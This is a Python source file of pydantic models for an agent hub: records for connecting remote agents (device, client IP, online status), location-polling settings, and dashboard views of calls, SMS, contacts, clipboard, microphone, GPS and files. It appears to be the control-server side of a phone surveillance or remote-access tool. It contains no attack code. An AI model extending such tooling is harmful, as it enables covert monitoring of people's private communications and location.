"""Agent record, connect-time metadata and per-agent settings."""

from __future__ import annotations

import enum
from datetime import datetime
from typing import Any

from pydantic import ConfigDict, Field

from agenthub.models._base import HubBaseModel, utcnow


class DeviceInfo(HubBaseModel):
    """Device attributes announced by the agent when it connects."""

    model: str | None = None
    manufacture: str | None = None
    version: str | None = None


class AgentMetadata(HubBaseModel):
    """Opaque connect-time metadata stored as the agent's ``dynamicData``.

    Transports may add extra keys (for example a geo lookup); they are kept.
    """

    model_config = ConfigDict(extra="allow")

    client_ip: str | None = Field(default=None, alias="clientIP")
    device: DeviceInfo = Field(default_factory=DeviceInfo)


class Agent(HubBaseModel):
    """Persistent record for one remote agent.

    Parameters
    ----------
    agent_id : str
        Stable identity announced by the agent (stored as ``id``).
    first_seen : datetime
        First successful connection.
    last_seen : datetime
        Last connect or disconnect.
    is_online : bool
        Whether the agent currently holds a live session.
    dynamic_data : dict
        Metadata supplied at the most recent connect.
    """

    agent_id: str = Field(alias="id")
    first_seen: datetime = Field(default_factory=utcnow)
    last_seen: datetime = Field(default_factory=utcnow)
    is_online: bool = False
    dynamic_data: dict[str, Any] = Field(default_factory=dict)


class PollConfig(HubBaseModel):
    """Location polling settings; ``0`` disables polling."""

    update_frequency_seconds: int = 0


class AgentPage(enum.StrEnum):
    """Views of an agent's data served to the dashboard layer."""

    CALLS = "calls"
    SMS = "sms"
    NOTIFICATIONS = "notifications"
    WIFI = "wifi"
    CONTACTS = "contacts"
    PERMISSIONS = "permissions"
    CLIPBOARD = "clipboard"
    APPS = "apps"
    FILES = "files"
    DOWNLOADS = "downloads"
    MICROPHONE = "microphone"
    GPS = "gps"
    INFO = "info"


class HubStats(HubBaseModel):
    """Connection statistics."""

    total_agents: int = 0
    online_agents: int = 0
    offline_agents: int = 0
    active_pollers: int = 0
